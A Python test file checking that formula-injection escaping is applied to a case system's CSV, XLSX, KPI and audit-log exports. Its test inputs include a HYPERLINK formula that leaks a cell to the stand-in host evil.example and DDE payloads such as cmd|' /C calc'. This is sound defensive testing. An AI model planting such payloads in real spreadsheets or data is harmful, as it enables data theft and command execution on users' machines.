"""Issue #19, item 6: one escape against spreadsheet formula injection, in every export: the case
search (CSV and XLSX), the KPI workbook and the audit log, also when the ``=`` hides behind
spaces or no-break spaces."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from core.audit.service import AuditFilter, export_audit_csv, record_audit
from core.cases.search import CaseFilter, export_cases
from core.kpi.export import export_dashboard
from core.kpi.filters import KpiFilters
from core.text import escape_spreadsheet_cell
from tests.factories import make_case, make_creditor, make_user

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    "dangerous",
    [
        "=1+1",
        "+7 (900) 123-45-67",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1+1",
        "\u00a0=1+1",
        "\u00a0\u00a0 @cmd",
        "\u202f+1",
        HYPERLINK,
    ],
)
def test_formula_starts_are_escaped_even_behind_blanks(dangerous: str) -> None:
    assert escape_spreadsheet_cell(dangerous) == "'" + dangerous


@pytest.mark.parametrize("harmless", ["Иванов Иван", "ДЗ-0042", "a=b", "", "   ", "1 200,50"])
def test_ordinary_text_and_numbers_are_left_alone(harmless: str) -> None:
    assert escape_spreadsheet_cell(harmless) == harmless
    assert escape_spreadsheet_cell(-1200) == -1200  # a negative amount stays a number
    assert escape_spreadsheet_cell(None) is None


def test_search_export_escapes_a_formula_behind_a_no_break_space(session: Session) -> None:
    clerk = make_user(session, "clerk")
    make_case(session, contract_number="\u00a0" + HYPERLINK, region=" =cmd|' /C calc'!A0")
    session.commit()
    text = export_cases(session, clerk, CaseFilter(), "csv").decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    assert "'\u00a0" + HYPERLINK in row
    assert "' =cmd|' /C calc'!A0" in row
    wb = load_workbook(io.BytesIO(export_cases(session, clerk, CaseFilter(), "xlsx")))
    cells = [c for r in wb.active.iter_rows(min_row=2) for c in r]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'\u00a0" + HYPERLINK in [c.value for c in cells]


def test_kpi_workbook_writes_no_live_formulas(session: Session) -> None:
    head = make_user(session, "head")
    creditor = make_creditor(session, name=HYPERLINK)
    make_case(session, creditor=creditor, region="=2+5")
    session.commit()
    today = dt.date.today()
    f = KpiFilters(today - dt.timedelta(days=30), today, creditor_ids=(creditor.id,), regions=("=2+5",))
    wb = load_workbook(io.BytesIO(export_dashboard(session, head, f)))
    formulas = [
        f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.data_type == "f"
    ]
    assert formulas == []
    values = [c.value for r in wb["Filters"].iter_rows() for c in r]
    assert "'" + HYPERLINK in values and "'=2+5" in values


def test_audit_export_escapes_what_people_typed(session: Session) -> None:
    admin = make_user(session, "admin")
    record_audit(session, admin, "case.note", "case", "@SUM(1+1)*cmd|' /C calc'!A0", {"comment": "x"})
    session.commit()
    text = export_audit_csv(session, admin, AuditFilter(action="case.note")).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1][5] == "'@SUM(1+1)*cmd|' /C calc'!A0"
